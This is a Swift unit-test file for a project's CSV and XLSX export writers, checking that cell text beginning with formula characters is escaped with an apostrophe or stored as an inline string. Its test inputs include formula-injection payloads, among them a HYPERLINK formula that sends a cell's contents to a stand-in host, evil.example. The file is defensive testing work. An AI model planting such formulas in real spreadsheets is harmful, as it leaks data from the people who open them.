import Foundation
import Testing

@testable import ChiBoCore

@Suite struct CSVWriterTests {
    @Test func textThatASpreadsheetWouldRunAsAFormulaComesOutInert() {
        let formulas = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
            "=1,2",
        ]
        for text in formulas {
            let field = CSVWriter.field(.text(text))
            // Unquoted, the field starts with the apostrophe; quoted, right after the opening quote.
            let inner = field.hasPrefix("\"") ? String(field.dropFirst()) : field
            #expect(inner.hasPrefix("'"), "\(text) → \(field)")
        }
        #expect(CSVWriter.field(.text("=HYPERLINK(\"x\")")) == "\"'=HYPERLINK(\"\"x\"\")\"")
        #expect(CSVWriter.field(.text("Chi bộ thôn Nà Thuôn")) == "Chi bộ thôn Nà Thuôn")
        #expect(CSVWriter.field(.text("a=b")) == "a=b")
    }

    @Test func numbersStayNumbersEvenNegative() {
        #expect(CSVWriter.field(.number(-3)) == "-3")
        #expect(CSVWriter.field(.decimal(-925, scale: 1)) == "-92.5")
        #expect(CSVWriter.field(.number(12)) == "12")
    }

    @Test func aDocumentHasTheByteOrderMarkAndCRLFLines() {
        let csv = CSVWriter.document([[.text("Đơn vị"), .text("Số")], [.text("=cmd"), .number(-1)]])
        #expect(csv == "\u{FEFF}Đơn vị,Số\r\n'=cmd,-1\r\n")
    }

    @Test func theWorkbookWritesSuchTextAsAnInlineStringNeverAFormula() throws {
        let sheet = XlsxWriter.sheet([[.text("Tên")], [.text("=HYPERLINK(\"http://x\",\"y\")")], [.number(-4)]])
        #expect(sheet.contains("t=\"inlineStr\"><is><t xml:space=\"preserve\">=HYPERLINK(&quot;http://x&quot;,&quot;y&quot;)</t>"))
        #expect(!sheet.contains("<f>"))
        #expect(sheet.contains("<v>-4</v>"))
    }
}
